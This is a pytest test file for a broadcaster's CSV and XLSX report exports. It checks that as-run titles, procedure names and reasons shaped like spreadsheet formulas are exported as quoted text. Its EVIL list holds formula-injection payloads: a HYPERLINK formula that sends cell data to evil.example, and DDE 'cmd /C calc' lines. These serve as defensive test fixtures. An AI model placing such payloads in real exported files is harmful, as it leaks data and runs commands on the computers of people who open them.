"""Typed text never runs as a spreadsheet formula: titles, procedure names and reasons an officer (or
a crafted relay) wrote go out as text in every CSV and XLSX the station exports."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sample_asrun import fill_sample_asrun
from sqlalchemy import select, update

from broadcaster import content
from broadcaster.config import load
from broadcaster.models import AirStatus, AsRunEntry, Occurrence
from broadcaster.reports import compute_report, export_csv, export_xlsx, letterhead, parse_period
from broadcaster.rules import FORMULA_STARTS
from broadcaster.store import ensure_station, open_store

EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def evil_store(tmp_path_factory):
    """A month of as-run log whose procedure names, titles and reasons are formulas."""
    d = tmp_path_factory.mktemp("evil")
    st = open_store(load({"BROADCASTER_DATA_DIR": str(d)}), upgrade=True)
    ensure_station(st)
    with st.sessions.begin() as s:
        fill_sample_asrun(s, st.station(s), date(2025, 1, 1), 31)
        procs = s.scalars(select(AsRunEntry.id).where(AsRunEntry.procedure.is_not(None))).all()
        assert len(procs) >= len(EVIL)
        for i, eid in enumerate(procs):
            s.execute(update(AsRunEntry).where(AsRunEntry.id == eid).values(procedure=EVIL[i % len(EVIL)]))
        bad = s.scalars(select(AsRunEntry).where(AsRunEntry.status != AirStatus.PLAYED)).all()
        assert bad, "the sample has failed or missed airings to list"
        for i, e in enumerate(bad):
            e.title = e.reason = EVIL[i % len(EVIL)]
            s.execute(
                update(Occurrence).where(Occurrence.id == e.occurrence_id).values(title=EVIL[i % len(EVIL)])
            )
    yield st
    st.engine.dispose()


def _report(store):
    with store.sessions() as s:
        station = store.station(s)
        return compute_report(
            s, station, parse_period("2025-01"), now=datetime(2030, 1, 1, tzinfo=UTC)
        ), letterhead(s, station)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_report_csv_neutralises_every_formula(evil_store):
    report, lh = _report(evil_store)
    cells = _csv_cells(export_csv(report, lh).decode("utf-8-sig"))
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    found = {c[1:] for c in cells if c.startswith("'")}
    assert set(EVIL) <= found, "every evil name is there, as text"


def test_report_xlsx_keeps_formulas_as_text(evil_store):
    report, lh = _report(evil_store)
    wb = openpyxl.load_workbook(io.BytesIO(export_xlsx(report, lh)))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value in EVIL:
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    texts.append(c.value)
    assert set(EVIL) <= set(texts)


def test_asrun_csv_neutralises_titles_and_reasons(evil_store):
    tz = ZoneInfo("Asia/Ho_Chi_Minh")
    with evil_store.sessions() as s:
        f = content.AsRunFilter(date_from=date(2025, 1, 1), date_to=date(2025, 1, 31))
        entries = content.asrun_entries(s, evil_store.station(s).id, f, tz)
        text = content.asrun_csv(entries, tz)
    cells = _csv_cells(text.lstrip("\ufeff"))
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert set(EVIL) <= {c[1:] for c in cells if c.startswith("'")}
